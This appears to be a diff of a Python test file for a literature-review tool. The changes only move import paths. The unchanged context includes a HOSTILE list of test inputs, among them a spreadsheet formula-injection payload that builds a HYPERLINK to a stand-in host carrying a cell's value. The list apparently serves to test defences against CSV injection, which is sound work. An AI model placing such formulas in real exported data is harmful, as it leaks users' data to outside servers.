@@ -31,7 +31,7 @@ from litreview.query.parser import MAX_DEPTH, parse, parse_strategy
 from litreview.query.translate import translate
 from litreview.records import Citation, Decision
 from litreview.screen.commands import export_decisions, import_decisions
-from litreview.workspace import Workspace, check_run_id
+from litreview.store.workspace import Workspace, check_run_id
 
 HOSTILE = [
     '=HYPERLINK("http://x/?leak="&B2,"click")',
@@ -710,7 +710,7 @@ def test_kill_9_of_the_cli_takes_its_prefect_server_with_it(tmp_path):
 def test_kill_9_of_the_workbench_takes_its_ranking_worker_with_it(tmp_path, data_dir):
     """The workbench ranks in a worker process holding a fitted model (hundreds of MB on a large
     review): a server killed with -9 must not leave it running."""
-    from litreview.importers import load_records
+    from litreview.sources.importers import load_records
     from litreview.testing.processes import free_port
     from litreview.testing.workspaces import build_workspace
 
